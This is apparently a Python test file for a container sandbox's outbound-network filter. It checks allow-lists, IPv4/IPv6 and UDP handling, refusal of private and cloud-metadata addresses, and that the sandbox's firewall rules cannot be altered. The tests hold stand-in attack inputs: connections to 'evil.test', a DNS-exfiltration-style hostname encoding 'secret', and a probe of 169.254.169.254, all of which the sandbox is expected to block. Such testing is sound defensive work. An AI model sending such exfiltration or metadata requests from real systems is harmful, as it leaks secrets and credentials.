# as: root user userns container walls rootwalls
# in: testnet
"""The network of a box, the short form: names that are allowed, everything else, both
families, as every caller and on every kernel. The long forms are egress*.py here and in
tests/escape.
"""

import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "harness"))
from box import WALLED, box, run  # noqa: E402
from egress import (CLIENT, NOT_FOUND, REFUSED, allow, both, denials, has_denial, host_counters,  # noqa: E402
                    inside, outside)
from host import Snapshot, become_reaper  # noqa: E402
from tap import run_tests  # noqa: E402
from testnet import Internet, packets_sent  # noqa: E402

NET = Internet()


def an_allowed_name_works_and_another_does_not(tap):
    NET.clear()
    ran = both(tap, allow("api.good.test"), [
        ("get api.good.test 80 api.good.test", "HTTP/1.1 200 OK", "HTTP/1.1 200 OK"),
        ("connect evil.test 80", "ok", NOT_FOUND),
        ("connect 203.0.113.66 80", "ok", REFUSED),
        ("connect 2001:db8:66::66 80", "ok", REFUSED),
        # A socket of calls has no error for who only receives: it is woken, and gets nothing.
        ("udp 203.0.113.66 7777 x", "echo x", "" if WALLED else REFUSED),
        ("connect api.good.test 8080", "ok", REFUSED),
    ], "one allowed name")
    has_denial(tap, ran, "lookup evil.test", "net.allow_out (not listed)", "--allow-out evil.test",
               "the refused lookup is recorded with the flag that would allow it")
    has_denial(tap, ran, "connect 203.0.113.66:80", "net.allow_out (not listed)",
               "--allow-out 203.0.113.66:80", "the refused address as well")
    has_denial(tap, ran, "connect [2001:db8:66::66]:80", "net.allow_out (not listed)",
               "--allow-out [2001:db8:66::66]:80", "and that of IPv6")
    has_denial(tap, ran, "connect api.good.test:8080", "re:net.allow_out=api.good.test.*",
               "--allow-out api.good.test:8080", "and the other port, with the rule that has the name")
    has_denial(tap, ran, "send 203.0.113.66:7777/udp", "net.allow_out (not listed)",
               "--allow-out 203.0.113.66:7777/udp", "and the datagram")
    network = ran["network"]
    tap.equal((network["mode"], network["path"]), ("filtered", "calls" if WALLED else "inlet"), "the record says how", ran)
    counters = host_counters(ran, "api.good.test") or {}
    tap.ok(counters.get("connections") == 1 and counters.get("bytes_received", 0) > 20,
           "and what went to the allowed name", network)


def a_denial_sends_nothing(tap):
    acts = ("connect exfil-c2VjcmV0.evil.test 80", "connect 203.0.113.66 80", "sendto 203.0.113.66 7777 x")
    before = packets_sent()
    outside(*acts)
    tap.ok(packets_sent() > before, "A14 E29 the same acts without a box send packets")
    NET.clear()
    inside(allow("api.good.test"), "lookup api.good.test")      # neighbours are known now
    before = packets_sent()
    got, ran = inside(allow("api.good.test"), *acts)
    tap.equal(packets_sent() - before, 0, "A14 E29 in a box not one leaves the host", (got, ran))
    tap.equal(NET.events(), [], "A14 E29 and nothing arrives, nor for a lookup of the allowed name")


def udp_and_both_families(tap):
    flags = allow("api.good.test:7777/udp", "v6only.good.test", "198.51.100.10:22", "[2001:db8:1::/48]:7")
    both(tap, flags, [
        ("udp api.good.test 7777 hello", "echo hello", "echo hello"),
        ("get v6only.good.test 80 v6only.good.test", "HTTP/1.1 200 OK", "HTTP/1.1 200 OK"),
        ("first 198.51.100.10 22", "SSH-2.0-test", "SSH-2.0-test"),
        ("hold 2001:db8:1::77 7 1", "1 of 1", "1 of 1"),
        ("connect 198.51.100.10 7", "ok", REFUSED),
    ], "UDP, IPv6 and addresses")


def loopback_is_the_boxs_own(tap):
    script = ("import socket\n"
              "for family, a in ((socket.AF_INET, '127.0.0.1'), (socket.AF_INET6, '::1')):\n"
              "    s = socket.socket(family); s.bind((a, 8000)); s.listen()\n"
              "    c = socket.create_connection((a, 8000)); s.accept()[0].sendall(b'mine'); print(c.recv(9))\n")
    ran = box(allow("api.good.test"), "/usr/bin/python3", "-c", script)
    tap.equal(ran["stdout"], "b'mine'\nb'mine'\n", "a server of the box and its client meet on loopback", ran)
    tap.equal(denials(ran), [], "and nothing of it is judged", ran)


def curl_without_a_proxy_variable(tap):
    curl = ["env", "-i", "/usr/bin/curl", "-sS", "-m", "30", "--cacert", NET.ca]
    bare = run([*curl, "https://evil.test/"])
    tap.equal(bare.rc, 0, "E35 curl reaches any site without a box", bare)
    ran = box(["--ro", NET.ca, *allow("api.good.test")], *curl, "https://api.good.test/x")
    tap.ok(ran["exit_code"] == 0 and '"sni": "api.good.test"' in ran["stdout"],
           "E35 an allowed site over TLS, with no proxy variable", ran)
    ran = box(["--ro", NET.ca, *allow("api.good.test")], *curl, "https://evil.test/x")
    tap.equal(ran["exit_code"], 6, "E35 another one is not resolved", ran)


def private_addresses_stay_out(tap):
    flags = ["--net", "open"]
    ran = both(tap, flags, [
        ("connect evil.test 80", "ok", "ok"),
        ("connect 10.1.2.3 80", "ok", REFUSED),
        ("connect 169.254.169.254 80", "ok", REFUSED),
        ("connect fd00:ec2::254 80", "ok", REFUSED),
        ("connect private.good.test 80", "ok", REFUSED),
    ], "A15 open, but not what is private", client=CLIENT)
    has_denial(tap, ran, "connect 169.254.169.254:80", "always denied: link-local 169.254.0.0/16",
               "--allow-private 169.254.169.254", "A15 the record names the range and the flag")
    got, ran = inside([*flags, "--allow-private", "10.1.2.3"], "connect 10.1.2.3 80",
                      "connect 10.1.2.4 80", client=CLIENT)
    tap.equal(got, ["ok", REFUSED], "E7 --allow-private lifts it for what it names", ran)


def the_rules_cannot_be_seen_or_changed(tap):
    acts = ("socket 2 3 255", "rules get", "rules delete", "route", "link", "leave net", "option 1 36 1")
    got, ran = inside(allow("api.good.test"), *acts)
    if WALLED:
        tap.equal(got, ["errno=EPERM", "errno=EAFNOSUPPORT", "errno=EAFNOSUPPORT", "errno=EAFNOSUPPORT", "errno=EAFNOSUPPORT",
                        "errno=EPERM", "errno=ENOPROTOOPT"], "where the host has the rules: none of it", ran)
        return
    bare = run(["unshare", "-Urn", CLIENT, *" , ".join(acts).split()])
    tap.equal(bare.text().split("\n"), ["ok", "ok", "ok", "errno=ESRCH", "ok", "ok", "ok"],
              "the root of a fresh network namespace may do all of it", bare)
    tap.equal(got, ["errno=EPERM", "errno=EPROTONOSUPPORT", "errno=EPROTONOSUPPORT", "errno=EPERM",
                    "errno=EPERM", "errno=EPERM", "errno=EPERM"], "in a box none of it", ran)


def nothing_is_left(tap):
    host = Snapshot()
    for _ in range(5):
        inside(allow("api.good.test"), "connect api.good.test 80")
    tap.equal(host.differences(2), [], "five boxes with a network leave nothing")


if __name__ == "__main__":
    become_reaper()
    run_tests([an_allowed_name_works_and_another_does_not, a_denial_sends_nothing, udp_and_both_families,
               loopback_is_the_boxs_own, curl_without_a_proxy_variable, private_addresses_stay_out,
               the_rules_cannot_be_seen_or_changed, nothing_is_left])
